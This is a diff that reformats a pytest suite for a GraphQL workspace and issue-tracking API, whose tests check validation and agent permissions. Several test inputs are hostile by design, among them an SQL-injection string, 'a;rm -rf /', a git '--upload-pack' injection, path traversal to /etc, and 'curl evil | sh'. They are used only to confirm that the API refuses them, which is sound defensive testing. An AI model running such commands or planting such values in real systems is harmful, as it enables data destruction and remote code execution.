@@ -23,7 +23,9 @@ mutation($id: ID!) { resetExecutionWorkspaceRuntime(id: $id) {
   __typename ... on ExecutionWorkspace { runtimeConfigSource runtimeOverride
     effectiveRuntimeConfig } ... on Error { message } } }
 """
-PROJECT_RUNTIME = {"commands": [{"name": "web", "kind": "service", "command": "serve", "port": "auto"}]}
+PROJECT_RUNTIME = {
+    "commands": [{"name": "web", "kind": "service", "command": "serve", "port": "auto"}]
+}
 
 
 async def workspace_of(api: Api, repo: Path, **project_workspace: object) -> tuple[str, str]:
@@ -49,7 +51,7 @@ async def test_identifiers_count_up_per_project(api: Api) -> None:
 async def test_duplicate_project_key_is_a_conflict(api: Api) -> None:
     await api.project("PAP")
     result = await api.mutate(
-        "mutation { createProject(input: {key: \"PAP\", name: \"again\"}) { __typename ... on Error { message } } }"
+        'mutation { createProject(input: {key: "PAP", name: "again"}) { __typename ... on Error { message } } }'
     )
     assert result["__typename"] == "ConflictError"
 
@@ -57,7 +59,7 @@ async def test_duplicate_project_key_is_a_conflict(api: Api) -> None:
 @pytest.mark.parametrize("key", ["pap", "P", "PAP-1", "TOO LONG"])
 async def test_bad_project_key_names_the_field(api: Api, key: str) -> None:
     result = await api.mutate(
-        "mutation($k: String!) { createProject(input: {key: $k, name: \"x\"}) { __typename ... on InvalidInputError { field message } } }",
+        'mutation($k: String!) { createProject(input: {key: $k, name: "x"}) { __typename ... on InvalidInputError { field message } } }',
         {"k": key},
     )
     assert result["__typename"] == "InvalidInputError" and result["field"] == "key"
@@ -68,12 +70,31 @@ async def test_issue_links_are_checked(api: Api) -> None:
     other = await api.project("OPS")
     foreign = await api.issue(other["id"])
 
-    wrong_project = await api.mutate(CREATE_ISSUE, {"input": {"projectId": project["id"], "title": "x", "parentId": foreign["id"]}})
-    unknown = await api.mutate(CREATE_ISSUE, {"input": {"projectId": project["id"], "title": "x", "parentId": "3b7a5a3c-0000-4000-8000-000000000000"}})
-    not_an_id = await api.mutate(CREATE_ISSUE, {"input": {"projectId": project["id"], "title": "x", "assigneeId": "robert'); drop table"}})
-    no_title = await api.mutate(CREATE_ISSUE, {"input": {"projectId": project["id"], "title": "   "}})
+    wrong_project = await api.mutate(
+        CREATE_ISSUE,
+        {"input": {"projectId": project["id"], "title": "x", "parentId": foreign["id"]}},
+    )
+    unknown = await api.mutate(
+        CREATE_ISSUE,
+        {
+            "input": {
+                "projectId": project["id"],
+                "title": "x",
+                "parentId": "3b7a5a3c-0000-4000-8000-000000000000",
+            }
+        },
+    )
+    not_an_id = await api.mutate(
+        CREATE_ISSUE,
+        {"input": {"projectId": project["id"], "title": "x", "assigneeId": "robert'); drop table"}},
+    )
+    no_title = await api.mutate(
+        CREATE_ISSUE, {"input": {"projectId": project["id"], "title": "   "}}
+    )
 
-    assert wrong_project["__typename"] == "InvalidInputError" and wrong_project["field"] == "parentId"
+    assert (
+        wrong_project["__typename"] == "InvalidInputError" and wrong_project["field"] == "parentId"
+    )
     assert unknown["__typename"] == "NotFoundError"
     assert not_an_id["__typename"] == "InvalidInputError" and not_an_id["field"] == "assigneeId"
     assert no_title["__typename"] == "InvalidInputError" and no_title["field"] == "title"
@@ -125,7 +146,9 @@ async def test_bad_override_is_refused_and_nothing_changes(api: Api, git_repo: P
     workspace_id, _ = await workspace_of(api, git_repo, runtimeConfig=PROJECT_RUNTIME)
     await api.ok(SAVE, {"id": workspace_id, "input": {"name": "kept"}})
 
-    broken = await api.mutate(SAVE, {"id": workspace_id, "input": {"name": "lost", "runtimeOverride": "{\"commands\": ["}})
+    broken = await api.mutate(
+        SAVE, {"id": workspace_id, "input": {"name": "lost", "runtimeOverride": '{"commands": ['}}
+    )
     wrong = await api.mutate(SAVE, {"id": workspace_id, "input": {"runtimeOverride": [1, 2]}})
 
     assert broken["__typename"] == "InvalidInputError" and broken["field"] == "runtimeOverride"
@@ -133,20 +156,34 @@ async def test_bad_override_is_refused_and_nothing_changes(api: Api, git_repo: P
     assert wrong["message"] == (
         "runtimeOverride: expected a JSON object with 'commands' or 'services', got a list"
     )
-    current = await api.gql("query($id: ID!) { executionWorkspace(id: $id) { name runtimeConfigSource } }", {"id": workspace_id})
-    assert current["executionWorkspace"] == {"name": "kept", "runtimeConfigSource": "PROJECT_WORKSPACE_DEFAULT"}
+    current = await api.gql(
+        "query($id: ID!) { executionWorkspace(id: $id) { name runtimeConfigSource } }",
+        {"id": workspace_id},
+    )
+    assert current["executionWorkspace"] == {
+        "name": "kept",
+        "runtimeConfigSource": "PROJECT_WORKSPACE_DEFAULT",
+    }
 
 
 @pytest.mark.parametrize(
     ("field", "value"),
     [
-        ("branchName", "has space"), ("branchName", "-x"), ("branchName", "a..b"),
-        ("branchName", "a;rm -rf /"), ("branchName", "new\nline"), ("branchName", "b" * 300),
-        ("baseRef", "--upload-pack=touch /tmp/x"), ("cwd", "/etc"), ("cwd", "relative"),
+        ("branchName", "has space"),
+        ("branchName", "-x"),
+        ("branchName", "a..b"),
+        ("branchName", "a;rm -rf /"),
+        ("branchName", "new\nline"),
+        ("branchName", "b" * 300),
+        ("baseRef", "--upload-pack=touch /tmp/x"),
+        ("cwd", "/etc"),
+        ("cwd", "relative"),
         ("cwd", "/tmp/../etc"),
     ],
 )
-async def test_odd_names_and_paths_are_refused(api: Api, git_repo: Path, field: str, value: str) -> None:
+async def test_odd_names_and_paths_are_refused(
+    api: Api, git_repo: Path, field: str, value: str
+) -> None:
     workspace_id, _ = await workspace_of(api, git_repo)
 
     result = await api.mutate(SAVE, {"id": workspace_id, "input": {field: value}})
@@ -158,12 +195,18 @@ async def test_odd_names_and_paths_are_refused(api: Api, git_repo: Path, field: 
 async def test_agent_may_not_change_host_executed_commands(api: Api, git_repo: Path) -> None:
     workspace_id, token = await workspace_of(api, git_repo)
 
-    for field, value in (("provisionCommand", "curl evil | sh"), ("runtimeOverride", PROJECT_RUNTIME)):
+    for field, value in (
+        ("provisionCommand", "curl evil | sh"),
+        ("runtimeOverride", PROJECT_RUNTIME),
+    ):
         result = await api.mutate(SAVE, {"id": workspace_id, "input": {field: value}}, token)
         assert result["__typename"] == "ForbiddenError", result
     renamed = await api.mutate(SAVE, {"id": workspace_id, "input": {"name": "agent's name"}}, token)
     assert renamed["name"] == "agent's name"
-    current = await api.gql("query($id: ID!) { executionWorkspace(id: $id) { provisionCommand runtimeOverride } }", {"id": workspace_id})
+    current = await api.gql(
+        "query($id: ID!) { executionWorkspace(id: $id) { provisionCommand runtimeOverride } }",
+        {"id": workspace_id},
+    )
     assert current["executionWorkspace"] == {"provisionCommand": "", "runtimeOverride": None}
 
 
@@ -173,11 +216,12 @@ async def test_agent_may_not_touch_project_settings(api: Api, git_repo: Path) ->
     _, token = await api.agent()
 
     result = await api.mutate(
-        "mutation($id: ID!) { updateProjectWorkspace(id: $id, input: {provisionCommand: \"x\"}) { __typename ... on Error { message } } }",
-        {"id": pw["id"]}, token,
+        'mutation($id: ID!) { updateProjectWorkspace(id: $id, input: {provisionCommand: "x"}) { __typename ... on Error { message } } }',
+        {"id": pw["id"]},
+        token,
     )
     created = await api.mutate(
-        "mutation { createProject(input: {key: \"AGT\", name: \"x\"}) { __typename } }", token=token
+        'mutation { createProject(input: {key: "AGT", name: "x"}) { __typename } }', token=token
     )
 
     assert result["__typename"] == "ForbiddenError" and created["__typename"] == "ForbiddenError"
@@ -186,7 +230,8 @@ async def test_agent_may_not_touch_project_settings(api: Api, git_repo: Path) ->
 async def test_requests_without_a_known_token_are_refused(api: Api) -> None:
     for token in ("", "wrong-token"):
         response = await api.client.post(
-            "/graphql", json={"query": "{ projects { id } }"},
+            "/graphql",
+            json={"query": "{ projects { id } }"},
             headers={"Authorization": f"Bearer {token}"} if token else {},
         )
         assert response.status_code == 401
@@ -208,4 +253,6 @@ async def test_unknown_ids_are_not_found(api: Api) -> None:
     missing = "3b7a5a3c-0000-4000-8000-000000000000"
     result = await api.mutate(SAVE, {"id": missing, "input": {"name": "x"}})
     assert result["__typename"] == "NotFoundError"
-    assert (await api.gql("query($id: ID!) { executionWorkspace(id: $id) { id } }", {"id": missing}))["executionWorkspace"] is None
+    assert (
+        await api.gql("query($id: ID!) { executionWorkspace(id: $id) { id } }", {"id": missing})
+    )["executionWorkspace"] is None
